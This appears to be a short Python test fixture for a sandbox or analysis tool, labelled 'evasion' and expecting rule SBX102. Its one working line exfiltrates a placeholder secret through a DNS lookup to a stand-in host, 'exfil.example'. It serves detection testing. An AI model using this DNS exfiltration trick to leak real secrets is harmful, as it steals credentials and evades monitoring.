# label: evasion
# family: imports
import asyncio


async def main():
    loop = asyncio.get_running_loop()
    secret = "token-1234"
    # A DNS lookup carries the secret out in the query name.
    await loop.getaddrinfo(f"{secret}.exfil.example", 53)  # want: SBX102


asyncio.run(main())
